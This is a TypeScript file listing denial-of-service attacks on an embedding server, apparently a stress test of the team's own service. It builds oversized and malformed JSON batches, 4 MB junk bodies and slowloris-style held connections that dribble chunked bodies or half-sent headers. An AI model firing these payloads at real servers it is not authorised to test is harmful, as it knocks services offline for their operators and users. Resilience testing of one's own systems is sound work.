import { type Ask, type Attack, askGreedily, holdConnections } from "./attack.ts";

/** What a stranger can send to the embedding server. */

const GREEDY = 8;
const JSON_TYPE = { "content-type": "application/json" };
const MIB = 2 ** 20;

const post = (path: string, body: string): Ask => ({ method: "POST", path, headers: JSON_TYPE, body });

export function encoderAttacks(): readonly Attack[] {
  const greedy = (name: string, asks: readonly Ask[]): Attack => {
    let turn = 0;
    return { name, run: (target) => askGreedily(target, GREEDY, () => asks[turn++ % asks.length] ?? { path: "/" }) };
  };
  const article = "昨日，市政府公布供水改造计划，涉及老旧小区三百余个。".repeat(40);
  const texts = JSON.stringify(Array.from({ length: 1000 }, (_, index) => `${index} ${article}`));
  const many = JSON.stringify(Array.from({ length: 2048 }, (_, index) => `第 ${index} 条`));
  return [
    greedy("POST /batch, 1,000,000 empty texts", [post("/batch", `{"text_batch":[${'"",'.repeat(1_000_000)}""]}`)]),
    greedy("POST /batch, 2,048 short texts", [post("/batch", `{"text_batch":${many}}`)]),
    greedy("POST /batch, 1,000 articles of 1,040 characters", [post("/batch", `{"text_batch":${texts}}`)]),
    greedy("POST /batch, the same in Simplified", [post("/batch", `{"text_batch":${texts},"t2s":true}`)]),
    greedy("POST /embed, one text of 3.9 MB", [
      post("/embed", JSON.stringify({ inputs: "港".repeat((3.9 * MIB) / 3) })),
    ]),
    greedy("junk bodies of 4 MB", [
      post("/embed", `[${"{},".repeat(1_300_000)}{}]`),
      post("/v1/embeddings", "[".repeat(4_000_000)),
      post("/v1/embeddings", `{"model":"x","input":[${"1,".repeat(1_900_000)}1]}`),
      post("/", `"${"\\u6e2f".repeat(600_000)}"`),
      post("/batch", `{${'"a":[],'.repeat(500_000)}"b":1}`),
      post("/nothing", `[${"[],".repeat(1_000_000)}[]]`),
      {
        method: "POST",
        path: "/embed",
        headers: { "content-type": "application/json; charset=gb18030" },
        body: "\x81".repeat(4_000_000),
      },
    ]),
    {
      name: "64 chunked bodies that dribble",
      run: (target) =>
        holdConnections(target, {
          connections: 64,
          send: "POST /embed HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n",
          drip: "1\r\n{\r\n",
          everyMs: 1000,
        }),
    },
    {
      name: "2,000 half-sent heads",
      run: (target) =>
        holdConnections(target, {
          connections: 2000,
          send: "POST /embed HTTP/1.1\r\nHost: a\r\n",
          drip: "X-More: 1\r\n",
          everyMs: 2000,
        }),
    },
    {
      name: "20 connections, GET /docs × 2,000 each, unread",
      run: (target) =>
        holdConnections(target, { connections: 20, send: "GET /docs HTTP/1.1\r\nHost: a\r\n\r\n".repeat(2000) }),
    },
  ];
}
